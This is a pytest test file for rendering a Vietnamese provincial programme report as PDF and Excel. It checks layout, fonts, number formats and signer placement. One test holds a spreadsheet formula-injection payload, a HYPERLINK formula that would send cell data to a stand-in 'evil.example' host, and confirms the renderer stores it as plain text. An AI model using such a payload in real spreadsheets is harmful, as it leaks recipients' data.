"""The aggregate report as an official document (Decree 30/2020/NĐ-CP layout), PDF and XLSX.

No database: the document is built from plain values, as the report view will hand them over.
"""

from __future__ import annotations

import csv
import datetime
import io
import unicodedata
from decimal import Decimal
from pathlib import Path

import pytest
from fontTools.ttLib import TTFont
from openpyxl import load_workbook
from pypdf import PdfReader

from dantoc.analytics.documents import (
    AdminDocument,
    DocRow,
    DocTable,
    HeaderCell,
    font_files,
    recipient_lines,
    render_pdf,
    render_xlsx,
    vn_date_line,
    wrap_balanced,
)

UNITS_CSV = Path(__file__).resolve().parents[3] / "data" / "units" / "units.csv"
VIETNAMESE_LETTERS = (
    "aàáảãạ ăằắẳẵặ âầấẩẫậ eèéẻẽẹ êềếểễệ iìíỉĩị oòóỏõọ ôồốổỗộ ơờớởỡợ uùúủũụ ưừứửữự yỳýỷỹỵ đ"
)
DATE_LINE = "Tuyên Quang, ngày 22 tháng 11 năm 2026"
ABSTRACT = "Kết quả thực hiện Chương trình MTQG 1719 quý III năm 2026"
ISSUER = "ỦY BAN NHÂN DÂN TỈNH TUYÊN QUANG"


def tuyen_quang_communes() -> list[str]:
    with UNITS_CSV.open(encoding="utf-8") as f:
        return [
            row["name"]
            for row in csv.DictReader(f)
            if row["era"] == "new" and row["level"] == "commune" and row["parent_code"] == "08"
        ]


def quarterly_report(*, governing_body: str = "") -> AdminDocument:
    projects = [
        ("1", "Dự án 1: Giải quyết tình trạng thiếu đất ở, nhà ở, đất sản xuất, nước sinh hoạt"),
        ("2", "Dự án 2: Quy hoạch, sắp xếp, bố trí, ổn định dân cư ở những nơi cần thiết"),
        ("3", "Dự án 3: Phát triển sản xuất nông, lâm nghiệp bền vững"),
        ("4", "Dự án 4: Đầu tư cơ sở hạ tầng thiết yếu vùng đồng bào dân tộc thiểu số"),
        ("5", "Dự án 5: Phát triển giáo dục đào tạo nâng cao chất lượng nguồn nhân lực"),
        ("6", "Dự án 6: Bảo tồn, phát huy giá trị văn hóa truyền thống tốt đẹp"),
        ("7", "Dự án 7: Chăm sóc sức khỏe Nhân dân, nâng cao thể trạng, tầm vóc"),
        ("8", "Dự án 8: Thực hiện bình đẳng giới và giải quyết vấn đề cấp thiết đối với phụ nữ"),
        ("9", "Dự án 9: Đầu tư tạo sinh kế, phát triển kinh tế nhóm dân tộc thiểu số rất ít người"),
        ("10", "Dự án 10: Truyền thông, tuyên truyền, kiểm tra, giám sát"),
    ]
    rows = [
        DocRow(
            ["", "TỔNG CỘNG", Decimal("2468013.5"), Decimal("1234567.5"), None, Decimal("50")],
            total=True,
        )
    ]
    for number, name in projects:
        planned = Decimal(number) * Decimal("44873.25")
        spent = (planned * Decimal("0.6")).quantize(Decimal("0.1"))
        rows.append(DocRow([number, name, planned, spent, Decimal("0"), Decimal("60")]))
        if number == "4":
            rows.append(
                DocRow(
                    ["", "Trong đó: Tiểu dự án 1", Decimal("120000"), None, None, None], indent=1
                )
            )
    by_project = DocTable(
        caption="Biểu 1. Kế hoạch vốn và giải ngân theo dự án thành phần",
        unit_note="Đơn vị tính: triệu đồng",
        header=[
            [
                HeaderCell("TT", rowspan=2),
                HeaderCell("Dự án thành phần", rowspan=2),
                HeaderCell("Kế hoạch vốn năm 2026", rowspan=2),
                HeaderCell("Giải ngân đến 22/11/2026", colspan=2),
                HeaderCell("Tỷ lệ giải ngân (%)", rowspan=2),
            ],
            ["Vốn đầu tư", "Vốn sự nghiệp"],
        ],
        rows=rows,
        label_column=1,
    )
    commune_rows = [
        DocRow(
            [str(i), name, Decimal(1000 + i * 37), Decimal(500 + i * 11) / 10, "x"],
        )
        for i, name in enumerate(tuyen_quang_communes(), start=1)
    ]
    for row in commune_rows:
        if row.cells[1] == "Xã Sà Phìn":
            row.cells[1] += "*"  # not yet approved
    by_commune = DocTable(
        caption="Biểu 2. Giải ngân theo xã, phường",
        unit_note="Đơn vị tính: triệu đồng",
        header=[["TT", "Xã, phường", "Kế hoạch vốn", "Đã giải ngân", "Ghi chú"]],
        rows=commune_rows,
        label_column=1,
    )
    return AdminDocument(
        governing_body=governing_body,
        issuer=ISSUER,
        number_symbol="/BC-UBND",
        place="Tuyên Quang",
        date=datetime.date(2026, 11, 22),
        title="Báo cáo",
        abstract=ABSTRACT,
        intro_paragraphs=[
            "Thực hiện Quyết định số 1719/QĐ-TTg ngày 14 tháng 10 năm 2021 của Thủ tướng "
            "Chính phủ, Ủy ban nhân dân tỉnh Tuyên Quang báo cáo kết quả thực hiện Chương "
            "trình quý III năm 2026 như sau:",
            "Tổng kế hoạch vốn năm 2026 là 2.468.013,5 triệu đồng; đến ngày 22/11/2026 đã "
            "giải ngân 1.234.567,5 triệu đồng, đạt 50% kế hoạch.",
        ],
        tables=[by_project, by_commune],
        notes=[
            "Số liệu gồm các báo cáo đã duyệt đến 14:05 22/11/2026.",
            "Số liệu chưa duyệt được đánh dấu *.",
        ],
        recipients=[
            "Bộ Dân tộc và Tôn giáo",
            "TT Tỉnh ủy, TT HĐND tỉnh",
            "Chủ tịch, các PCT UBND tỉnh",
            "Các sở, ban, ngành thành viên BCĐ",
        ],
        signer_authority="TM. Ủy ban nhân dân\nKT. Chủ tịch",
        signer_title="Phó Chủ tịch",
        signer_name="Nguyễn Văn Sơn",
    )


@pytest.fixture(scope="module")
def pdf_pages() -> list[str]:
    reader = PdfReader(io.BytesIO(render_pdf(quarterly_report())))
    return [page.extract_text() for page in reader.pages]


def flat(text: str) -> str:
    return " ".join(unicodedata.normalize("NFC", text).split())


def test_date_line_pads_days_below_ten_and_january_february_only():
    assert vn_date_line("Tuyên Quang", datetime.date(2026, 11, 22)) == DATE_LINE
    assert vn_date_line("Hà Nội", datetime.date(2026, 2, 5)) == "Hà Nội, ngày 05 tháng 02 năm 2026"
    assert vn_date_line("Hà Nội", datetime.date(2026, 1, 10)) == "Hà Nội, ngày 10 tháng 01 năm 2026"
    assert vn_date_line("Hà Nội", datetime.date(2026, 3, 9)) == "Hà Nội, ngày 09 tháng 3 năm 2026"
    assert vn_date_line("Hà Nội", datetime.date(2026, 12, 1)) == "Hà Nội, ngày 01 tháng 12 năm 2026"


def test_recipients_end_with_the_archive_copy_and_a_full_stop():
    assert recipient_lines(["Bộ Dân tộc và Tôn giáo;", "- TT Tỉnh ủy"]) == [
        "- Bộ Dân tộc và Tôn giáo;",
        "- TT Tỉnh ủy;",
        "- Lưu: VT.",
    ]
    assert recipient_lines(["Lưu: VT, KT", "Như trên"]) == ["- Như trên;", "- Lưu: VT, KT."]


def test_issuer_name_breaks_into_balanced_lines():
    assert wrap_balanced(ISSUER, 20, len) == ["ỦY BAN NHÂN DÂN", "TỈNH TUYÊN QUANG"]
    assert wrap_balanced("SỞ NỘI VỤ\nTỈNH X", 100, len) == ["SỞ NỘI VỤ", "TỈNH X"]


def test_pdf_font_covers_every_vietnamese_letter_in_all_four_styles():
    letters = VIETNAMESE_LETTERS + VIETNAMESE_LETTERS.upper()
    for style, path in font_files().items():
        cmap = TTFont(path).getBestCmap()
        missing = [c for c in letters if c != " " and ord(c) not in cmap]
        assert not missing, f"style {style!r} lacks {''.join(missing)}"


def test_pdf_first_page_carries_the_decree_30_heading(pdf_pages):
    first = flat(pdf_pages[0])
    for expected in (
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "ỦY BAN NHÂN DÂN TỈNH TUYÊN QUANG",
        "Số: /BC-UBND",
        DATE_LINE,
        "BÁO CÁO",
        ABSTRACT,
    ):
        assert expected in first, expected
    assert not pdf_pages[0].lstrip().startswith("1"), "page 1 shows no page number"


def test_pdf_text_keeps_vietnamese_letters_and_number_format(pdf_pages):
    text = flat(" ".join(pdf_pages))
    assert "1.234.567,5" in text
    assert "2.468.013,5" in text
    assert "Xã Lũng Cú" in text
    assert "Xã Pờ Ly Ngài" in text
    assert "Xã Sà Phìn*" in text
    assert "Đơn vị tính: triệu đồng" in text
    assert "Nơi nhận:" in text
    assert "- Lưu: VT." in text
    assert "KT. CHỦ TỊCH" in text
    assert "PHÓ CHỦ TỊCH" in text
    assert "Nguyễn Văn Sơn" in text
    assert "Số liệu chưa duyệt được đánh dấu *." in text


def test_pdf_renders_every_vietnamese_letter_as_text():
    letters = VIETNAMESE_LETTERS + " " + VIETNAMESE_LETTERS.upper()
    doc = quarterly_report()
    doc.tables = []
    doc.intro_paragraphs = [letters]
    doc.signer_name = "Đặc khu Phú Quốc, xã Ỷ Tý"
    pages = PdfReader(io.BytesIO(render_pdf(doc))).pages
    text = flat(" ".join(page.extract_text() for page in pages))
    assert letters in text
    assert "Đặc khu Phú Quốc, xã Ỷ Tý" in text


def test_pdf_long_table_repeats_its_header_and_pages_are_numbered_from_two(pdf_pages):
    assert len(pdf_pages) >= 3
    commune_pages = [i for i, page in enumerate(pdf_pages) if "Xã Lũng Cú" in page]
    later = [i for i, p in enumerate(pdf_pages) if "Xã Tân Trịnh" in p and i > commune_pages[0]]
    assert later, "the commune table continues on a later page"
    continued = flat(pdf_pages[later[0]])
    assert "Xã, phường Kế hoạch vốn Đã giải ngân" in continued
    for number, page in enumerate(pdf_pages[1:], start=2):
        assert page.lstrip().startswith(f"{number}\n"), f"page {number} shows its number on top"


def test_pdf_with_governing_body_and_blank_signer_name():
    doc = quarterly_report(governing_body="Bộ Dân tộc và Tôn giáo")
    doc.issuer = "Vụ Kế hoạch - Tài chính"
    doc.signer_name = ""
    doc.tables = doc.tables[:1]
    text = flat(PdfReader(io.BytesIO(render_pdf(doc))).pages[0].extract_text())
    assert "BỘ DÂN TỘC VÀ TÔN GIÁO" in text
    assert "VỤ KẾ HOẠCH - TÀI CHÍNH" in text


def test_pdf_wide_table_turns_its_pages_to_landscape():
    doc = quarterly_report()
    months = [f"Tháng {m:02d}/2026" if m <= 2 else f"Tháng {m}/2026" for m in range(1, 13)]
    doc.tables = [
        DocTable(
            caption="Biểu 3. Giải ngân theo tháng",
            header=[["TT", "Dự án", *months]],
            rows=[
                DocRow([str(i), f"Dự án {i}", *[Decimal("123456.75")] * 12]) for i in range(1, 4)
            ],
            label_column=1,
        )
    ]
    reader = PdfReader(io.BytesIO(render_pdf(doc)))
    sizes = [(float(p.mediabox.width), float(p.mediabox.height)) for p in reader.pages]
    assert sizes[0][0] < sizes[0][1], "the document begins in portrait"
    assert any(w > h for w, h in sizes), "the wide table is on a landscape page"
    text = flat(" ".join(p.extract_text() for p in reader.pages))
    assert text.count("123.456,75") == 36, "no figure is cut off"


def test_rows_must_match_the_header():
    doc = quarterly_report()
    doc.tables[1].rows.append(DocRow(["1", "Xã Lũng Cú"]))
    with pytest.raises(ValueError, match="Biểu 2"):
        render_pdf(doc)


@pytest.fixture(scope="module")
def sheet():
    return load_workbook(io.BytesIO(render_xlsx(quarterly_report()))).active


def _find(ws, value):
    for row in ws.iter_rows():
        for cell in row:
            if cell.value == value:
                return cell
    raise AssertionError(f"{value!r} not in the sheet")


def _merged(ws, cell) -> bool:
    return any(cell.coordinate in r for r in ws.merged_cells.ranges)


def test_xlsx_heading_is_in_merged_cells(sheet):
    assert len(sheet.title) <= 31
    assert sheet.title == "Báo cáo tổng hợp"
    motto = _find(sheet, "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM")
    assert _merged(sheet, motto)
    assert motto.font.b
    assert _merged(sheet, _find(sheet, "Độc lập - Tự do - Hạnh phúc"))
    assert _merged(sheet, _find(sheet, DATE_LINE))
    assert _find(sheet, DATE_LINE).font.i
    assert _merged(sheet, _find(sheet, "BÁO CÁO"))
    assert _merged(sheet, _find(sheet, ABSTRACT))
    assert _find(sheet, "ỦY BAN NHÂN DÂN\nTỈNH TUYÊN QUANG")
    assert _find(sheet, "Số:        /BC-UBND")


def test_xlsx_stores_numbers_as_numbers_with_bold_totals(sheet):
    total = _find(sheet, "TỔNG CỘNG")
    spent = sheet.cell(row=total.row, column=4)
    assert spent.value == 1234567.5
    assert spent.data_type == "n"
    assert spent.number_format == "#,##0.0"
    assert spent.font.b and total.font.b
    planned = sheet.cell(row=_find(sheet, "Xã Lũng Cú").row, column=3)
    assert isinstance(planned.value, int)
    assert planned.number_format == "#,##0"
    assert not planned.font.b
    assert sheet.cell(row=total.row, column=5).value is None
    assert _find(sheet, "Trong đó: Tiểu dự án 1").alignment.indent == 1


def test_xlsx_prints_on_a4_with_the_long_table_header_repeated(sheet):
    header = _find(sheet, "Xã, phường")
    assert sheet.print_title_rows == f"${header.row}:${header.row}"
    assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4)
    assert sheet.page_setup.fitToWidth == 1
    assert sheet.page_setup.fitToHeight == 0
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert round(sheet.page_margins.left * 25.4) == 30
    assert round(sheet.page_margins.right * 25.4) == 15
    assert sheet.oddHeader.center.text == "&P"
    assert sheet.HeaderFooter.differentFirst


def test_xlsx_closes_with_recipients_and_signer(sheet):
    heading = _find(sheet, "Nơi nhận:")
    assert heading.font.b and heading.font.i
    archive = _find(sheet, "- Lưu: VT.")
    assert archive.row > heading.row
    assert _find(sheet, "KT. CHỦ TỊCH").font.b
    assert _find(sheet, "Nguyễn Văn Sơn").row > _find(sheet, "PHÓ CHỦ TỊCH").row
    assert _find(sheet, "- Số liệu chưa duyệt được đánh dấu *.")


def test_xlsx_keeps_text_that_looks_like_a_formula_as_text():
    # The names in a report come from the catalogue and the unit tree; one that begins like
    # a formula must not become one in the officer's Excel.
    doc = quarterly_report()
    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem")'
    doc.tables[1].rows[0].cells[1] = evil
    doc.tables[1].rows[0].cells[4] = "-"
    doc.notes.append("@SUM(1+1)")
    ws = load_workbook(io.BytesIO(render_xlsx(doc))).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    label = _find(ws, evil)
    assert label.data_type == "s" and label.quotePrefix is True
    assert _find(ws, 1037).data_type == "n"  # figures stay numbers


# --- the closing part keeps company; one number of decimals per column ----------------------


def _report_with_communes(count: int) -> AdminDocument:
    doc = quarterly_report()
    by_commune = doc.tables[1]
    by_commune.rows = by_commune.rows[:count]
    return doc


def test_pdf_signer_never_stands_alone_on_the_last_page():
    # However many rows the last table has, the page with the signer also carries the table's
    # last row: rows go over with the closing part, under the repeated header, when it does
    # not fit below the table. (A stride through one to three pages of rows; before, 25-36
    # and 63-69 rows left the signer alone.)
    moved = []
    for count in range(4, 70, 7):
        doc = _report_with_communes(count)
        last_row = doc.tables[1].rows[-1].cells[1]
        pages = [flat(p.extract_text()) for p in PdfReader(io.BytesIO(render_pdf(doc))).pages]
        signer_page = next(i for i, p in enumerate(pages) if "Nơi nhận:" in p)
        assert signer_page == len(pages) - 1, f"{count} rows: the signer is on the last page"
        assert last_row in pages[-1], f"{count} rows: the signer stands alone"
        assert "PHÓ CHỦ TỊCH" in pages[-1]
        if "Biểu 2" not in pages[-1]:
            assert "Xã, phường Kế hoạch vốn Đã giải ngân" in pages[-1], count
            moved.append(count)
    assert moved, "some row counts send the last rows over with the signer"


def test_pdf_figures_in_one_column_have_one_number_of_decimals():
    doc = quarterly_report()
    doc.tables = [
        DocTable(
            caption="Biểu 1. Giải ngân",
            header=[["TT", "Đơn vị", "Kế hoạch", "Tỷ lệ (%)"]],
            rows=[
                DocRow(["1", "Tỉnh A", Decimal("69035"), Decimal("12.345")]),
                DocRow(["2", "Tỉnh B", Decimal("66626.5"), Decimal("50")]),
                DocRow(["3", "Tỉnh C", Decimal("100"), None]),
            ],
            label_column=1,
        )
    ]
    text = flat(" ".join(p.extract_text() for p in PdfReader(io.BytesIO(render_pdf(doc))).pages))
    assert "Tỉnh A 69.035,0 12,35" in text
    assert "Tỉnh B 66.626,5 50,00" in text
    assert "Tỉnh C 100,0" in text


def test_xlsx_figures_in_one_column_share_their_number_format():
    doc = quarterly_report()
    doc.tables = [
        DocTable(
            caption="Biểu 1. Giải ngân",
            header=[["TT", "Đơn vị", "Kế hoạch"]],
            rows=[
                DocRow(["1", "Tỉnh A", Decimal("69035")]),
                DocRow(["2", "Tỉnh B", Decimal("66626.5")]),
            ],
            label_column=1,
        )
    ]
    ws = load_workbook(io.BytesIO(render_xlsx(doc))).active
    found = {row[1].value: row[2] for row in ws.iter_rows() if row[1].value in ("Tỉnh A", "Tỉnh B")}
    assert found["Tỉnh A"].number_format == found["Tỉnh B"].number_format == "#,##0.0"
    assert found["Tỉnh A"].value == 69035 and found["Tỉnh B"].value == 66626.5
